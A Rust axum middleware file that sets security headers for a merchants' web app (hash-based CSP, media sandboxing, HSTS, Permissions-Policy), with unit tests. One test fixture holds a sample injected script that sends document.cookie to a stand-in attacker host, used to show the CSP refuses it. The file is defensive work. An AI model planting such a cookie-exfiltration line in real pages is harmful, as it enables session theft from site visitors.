//! Security headers on every response.
//!
//! - Pages carry a Content-Security-Policy whose `script-src` lists the SHA-256 hashes of the
//!   inline scripts the server itself writes (the shell's hydration loader in `<head>`, found by
//!   its exact text, and Leptos's hydration data after `</html>`), computed by [`page_policy`]
//!   when the page is finished: no nonce, so a page's bytes, its ETag and the page cache stay the
//!   same from one request to the next. Any other inline script, in the head or the body, is
//!   not hashed, so the browser refuses to run it. `'wasm-unsafe-eval'` lets the
//!   browser compile our WASM; nothing else may run. Other responses get a policy that allows
//!   nothing ([`DEFAULT_POLICY`]).
//! - Everything under `/media` (merchants' uploads will live there) is sandboxed: opened on its
//!   own, an SVG or HTML file cannot run scripts, submit forms or reach our origin's storage.
//! - `Strict-Transport-Security` when the public URL is HTTPS; `Permissions-Policy` turns off the
//!   powerful features no page uses (the camera is on for this origin only on the merchant's
//!   products list, which reads barcodes); `nosniff`; no framing; a referrer policy that keeps the
//!   `Referer` on our own origin (server-function forms without JavaScript redirect back to it).

use axum::extract::Request;
use axum::middleware::Next;
use axum::response::Response;
use base64::Engine;
use http::header::{self, HeaderName, HeaderValue};
use sha2::{Digest, Sha256};

/// The policy of everything that is not a page or a media file: JSON, redirects, feeds, assets.
pub const DEFAULT_POLICY: &str = "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'";
/// Media files: images only, sandboxed.
pub const MEDIA_POLICY: &str = "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox";
const PERMISSIONS_POLICY: &str = "accelerometer=(), autoplay=(), camera=(), display-capture=(), geolocation=(), \
     gyroscope=(), magnetometer=(), microphone=(), midi=(), payment=(), usb=()";
/// The merchant's products list, whose "Scan" reads barcodes with the camera: the camera for
/// this origin, nothing else more.
const SCAN_PERMISSIONS_POLICY: &str = "accelerometer=(), autoplay=(), camera=(self), display-capture=(), \
     geolocation=(), gyroscope=(), magnetometer=(), microphone=(), midi=(), payment=(), usb=()";

/// The Permissions-Policy of a response to `path`: the camera only on the merchant's products
/// list (`/tableau-de-bord/{id}/produits`, in any language).
fn permissions_policy(path: &str) -> &'static str {
    let rest = common::Lang::split_path(path).1;
    let scan_page = rest
        .strip_prefix("/tableau-de-bord/")
        .and_then(|rest| rest.strip_suffix("/produits"))
        .is_some_and(|id| !id.is_empty() && id.bytes().all(|b| b.is_ascii_digit()));
    if scan_page {
        SCAN_PERMISSIONS_POLICY
    } else {
        PERMISSIONS_POLICY
    }
}
/// Two years, the HSTS preload list's minimum; not `includeSubDomains`: the town's other
/// sites under the same domain are not ours to decide for.
const HSTS: &str = "max-age=63072000";

/// The Content-Security-Policy of an HTML page as Leptos wrote it (before `tidy_html`), allowing
/// only the inline scripts our code writes: in `<head>`, those whose text is one of
/// `own_head_scripts` (the shell's hydration loaders, `app::own_head_scripts`), and those Leptos
/// appends after `</html>` (the hydration data, which it escapes). A `<script>` that found its
/// way into the head or the body any other way (an escaping bug, an injection through a title or
/// a meta tag) is not hashed, so the browser refuses to run it.
pub fn page_policy(html: &str, own_head_scripts: &[String]) -> String {
    let head = html.find("</head>").map(|end| &html[..end]).unwrap_or("");
    let tail = html.rfind("</html>").map(|end| &html[end..]).unwrap_or("");
    let ours = inline_scripts(head).into_iter().filter(|script| own_head_scripts.iter().any(|own| own == script));
    let mut script_src = String::from("'self' 'wasm-unsafe-eval'");
    for script in ours.chain(inline_scripts(tail)) {
        let digest = Sha256::digest(script.as_bytes());
        script_src.push_str(" 'sha256-");
        script_src.push_str(&base64::engine::general_purpose::STANDARD.encode(digest));
        script_src.push('\'');
    }
    format!(
        "default-src 'self'; script-src {script_src}; style-src 'self'; img-src 'self' data:; \
         connect-src 'self'; font-src 'self'; form-action 'self'; frame-ancestors 'none'; \
         object-src 'none'; base-uri 'self'"
    )
}

/// The text of each executable inline `<script>` (no `src`, not a JSON data block).
fn inline_scripts(html: &str) -> Vec<&str> {
    let mut scripts = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find("<script") {
        let after = &rest[start..];
        let Some(tag_end) = after.find('>') else { break };
        let tag = &after[..tag_end];
        let body_start = tag_end + 1;
        let Some(close) = after[body_start..].find("</script>") else { break };
        let body = &after[body_start..body_start + close];
        let data_block = tag.contains("application/ld+json") || tag.contains("application/json");
        if !tag.contains(" src=") && !data_block && !body.is_empty() {
            scripts.push(body);
        }
        rest = &after[body_start + close + "</script>".len()..];
    }
    scripts
}

/// The headers; `https` says whether the public URL is HTTPS (then HSTS is sent).
pub async fn security_headers(https: bool, request: Request, next: Next) -> Response {
    let media = request.uri().path().starts_with("/media/");
    let permissions = permissions_policy(request.uri().path());
    let mut response = next.run(request).await;
    let headers = response.headers_mut();
    headers.insert(header::X_CONTENT_TYPE_OPTIONS, HeaderValue::from_static("nosniff"));
    // A response that carries a secret in its address (the basket, an order's page) already
    // said `no-referrer`; every other gets this one.
    if !headers.contains_key(header::REFERRER_POLICY) {
        headers.insert(header::REFERRER_POLICY, HeaderValue::from_static("strict-origin-when-cross-origin"));
    }
    headers.insert(HeaderName::from_static("permissions-policy"), HeaderValue::from_static(permissions));
    headers.insert(header::X_FRAME_OPTIONS, HeaderValue::from_static("DENY"));
    headers.insert(HeaderName::from_static("cross-origin-opener-policy"), HeaderValue::from_static("same-origin"));
    if media {
        headers.insert(header::CONTENT_SECURITY_POLICY, HeaderValue::from_static(MEDIA_POLICY));
        headers
            .insert(HeaderName::from_static("cross-origin-resource-policy"), HeaderValue::from_static("same-origin"));
    } else if !headers.contains_key(header::CONTENT_SECURITY_POLICY) {
        headers.insert(header::CONTENT_SECURITY_POLICY, HeaderValue::from_static(DEFAULT_POLICY));
    }
    if https {
        headers.insert(header::STRICT_TRANSPORT_SECURITY, HeaderValue::from_static(HSTS));
    }
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_merchant_s_products_list_may_use_the_camera() {
        for path in ["/tableau-de-bord/1/produits", "/nl/tableau-de-bord/12/produits", "/en/tableau-de-bord/3/produits"] {
            assert!(permissions_policy(path).contains("camera=(self)"), "{path}");
        }
        for path in ["/", "/commerces", "/tableau-de-bord/1/produits/5", "/tableau-de-bord/x/produits", "/produits", "/media/a.jpg"] {
            assert!(permissions_policy(path).contains("camera=()"), "{path}");
        }
        assert!(permissions_policy("/tableau-de-bord/1/produits").contains("microphone=()"));
    }

    #[test]
    fn the_policy_lists_the_hash_of_each_inline_script_and_nothing_else() {
        let html = concat!(
            r#"<head><script type="module">import('/pkg/v.js')</script>"#,
            r#"<script src="/pkg/x.js"></script><script type="application/ld+json">{"a":1}</script></head>"#,
            r#"<body><main><script>alert('injected')</script></main></body></html><script>window.data=1</script>"#
        );
        assert_eq!(inline_scripts(html), vec!["import('/pkg/v.js')", "alert('injected')", "window.data=1"]);
        let policy = page_policy(html, &["import('/pkg/v.js')".to_string()]);
        let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(b"window.data=1"));
        assert!(policy.contains(&format!("'sha256-{hash}'")), "{policy}");
        assert_eq!(policy.matches("'sha256-").count(), 2, "the loader and the data, not the script in <main>");
        let injected = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(b"alert('injected')"));
        assert!(!policy.contains(&injected));
        assert!(!policy.contains("unsafe-inline"));
    }

    fn hash_of(script: &str) -> String {
        format!("'sha256-{}'", base64::engine::general_purpose::STANDARD.encode(Sha256::digest(script.as_bytes())))
    }

    #[test]
    fn a_script_injected_into_the_head_is_not_allowed() {
        let loader = "const h=()=>import('/pkg/vitrine.abc.js');h()".to_string();
        let injected = "fetch('https://evil.example/?c='+document.cookie)";
        // As a title that escaped its element would put it: before and after our own loader.
        let html = format!(
            r#"<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>x</title><script>{injected}</script>"#
        ) + &format!(
            r#"<script type="module">{loader}</script><meta name="description" content="y"><script>{injected}</script></head><body><main>z</main></body></html><script>__RESOLVED_RESOURCES=[];</script>"#
        );
        let policy = page_policy(&html, std::slice::from_ref(&loader));
        assert!(policy.contains(&hash_of(&loader)), "{policy}");
        assert!(policy.contains(&hash_of("__RESOLVED_RESOURCES=[];")), "{policy}");
        assert!(!policy.contains(&hash_of(injected)), "{policy}");
        assert_eq!(policy.matches("'sha256-").count(), 2, "{policy}");
        // A loader-shaped script that is not exactly ours is not allowed either.
        let lookalike = format!("{loader};alert(1)");
        let html = html.replace(&format!(">{loader}<"), &format!(">{lookalike}<"));
        let policy = page_policy(&html, std::slice::from_ref(&loader));
        assert!(!policy.contains(&hash_of(&lookalike)) && !policy.contains(&hash_of(&loader)), "{policy}");
    }
}
